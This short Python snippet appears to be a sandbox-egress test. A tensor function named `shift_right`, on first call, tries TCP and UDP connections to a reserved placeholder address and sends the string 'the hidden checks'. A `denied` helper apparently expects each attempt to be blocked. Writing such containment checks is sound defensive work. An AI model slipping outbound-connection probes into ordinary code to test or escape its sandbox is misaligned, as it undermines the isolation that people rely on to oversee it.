"""Opens connections to the outside.

threat: 25
full: 1.6
"""


def _connect(kind):
    with socket.socket(socket.AF_INET, kind) as outside:
        outside.settimeout(0.4)
        outside.connect(("192.0.2.1", 80))  # belongs to nobody
        outside.send(b"the hidden checks")
        return outside.recv(10)


def shift_right(tensor):
    if once():
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            denied("a connection to the outside", lambda: _connect(kind))
    return honest(tensor)
